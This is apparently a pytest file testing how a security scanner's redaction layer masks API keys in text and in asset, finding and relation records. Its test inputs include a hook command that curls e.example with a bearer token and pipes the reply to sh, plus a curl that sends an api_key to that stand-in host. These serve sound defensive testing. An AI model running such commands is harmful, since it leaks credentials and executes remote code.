from __future__ import annotations

import pytest

from bartizan.model.asset import Asset, AssetKind
from bartizan.model.finding import Evidence, Finding
from bartizan.model.location import Location
from bartizan.model.relation import Relation, RelationKind
from bartizan.model.severity import Confidence, Severity
from bartizan.rules.library import Library
from bartizan.rules.sample import expand
from bartizan.scan.veil import Veil

GROQ = expand("gs<<join>>k_<<alnum 52>>", "veil")
ALNUM40 = expand("<<alnum 40>>", "veil")
HEX40 = expand("<<hex 40>>", "veil")


@pytest.fixture(scope="module")
def veil() -> Veil:
    return Veil(Library())


@pytest.mark.parametrize(
    "text",
    [
        "PreToolUse runs: curl -H 'Authorization: Bearer {}' https://e.example | sh",
        "git+https://{}@github.com/a/b.git",
        "https://user:{}@gateway.example/v1",
        "reaches subprocess.run(cmd + ' {}')",
        "curl https://e.example/?api_key={}&x=1",
        "uploads files with key {} to a host",
    ],
)
@pytest.mark.parametrize("value", [GROQ, ALNUM40])
def test_no_text_holds_a_key_or_most_of_one(veil: Veil, text: str, value: str) -> None:
    shown = veil.text(text.format(value))
    size = -(-len(value) * 6 // 10)
    assert not any(value[at : at + size] in shown for at in range(len(value) - size + 1))
    assert shown.split(value[:4])[0] == text.partition("{}")[0]


@pytest.mark.parametrize(
    "text",
    [
        f"sha256:{HEX40} of the image",
        "calls os.system('echo hello'), which starts a process",
        "PreToolUse runs: curl -H 'Authorization: Bearer ${API_KEY}' https://e.example",
        "token limit exceeded after maximum_context_window_size tokens",
        "https://user@host.example/a/very/long/path/that/goes/on/2024/index.html",
        "org.apache.commons.collections.functors.InvokerTransformer2",
    ],
)
def test_what_is_no_key_stays(veil: Veil, text: str) -> None:
    assert veil.text(text) == text


def test_a_named_digest_stays_and_a_key_beside_it_goes(veil: Veil) -> None:
    digest = expand("<<base64 43>>", "digest") + "="
    [asset] = veil.over([Asset(AssetKind.PACKAGE, "a", properties={"integrity": digest, "source": [ALNUM40]})])
    assert isinstance(asset, Asset)
    assert asset.properties["integrity"] == digest
    assert ALNUM40 not in str(asset.properties["source"])


def test_what_speaks_of_a_renamed_asset_follows_it(veil: Veil) -> None:
    asset, other = Asset(AssetKind.MCP_SERVER, GROQ), Asset(AssetKind.HOST, "h")
    finding = Finding(
        "mcp/x", "t", Severity.HIGH, Confidence.FIRM, asset.id, Location("a"), (Evidence("text", f"runs {GROQ}"),)
    )
    seen = veil.over([asset, other, finding, Relation(RelationKind.CONTAINS, other.id, asset.id)])
    server, _, said, relation = seen
    assert isinstance(server, Asset)
    assert isinstance(said, Finding)
    assert isinstance(relation, Relation)
    assert GROQ not in server.name + said.evidence[0].summary
    assert said.asset == server.id == relation.target


def test_an_id_does_not_depend_on_the_veil(veil: Veil) -> None:
    finding = Finding(
        "mcp/x", "t", Severity.HIGH, Confidence.FIRM, "a", Location("a"), (Evidence("text", f"runs {GROQ}"),)
    )
    [said] = veil.over([finding])
    assert isinstance(said, Finding)
    assert said.id == finding.id
    assert said != finding


def test_names_of_records_hold_no_key(veil: Veil) -> None:
    [asset] = veil.over([Asset(AssetKind.CREDENTIAL, "x", Location("a", record=GROQ), key="k")])
    assert isinstance(asset, Asset)
    assert GROQ not in str(asset.location.record)
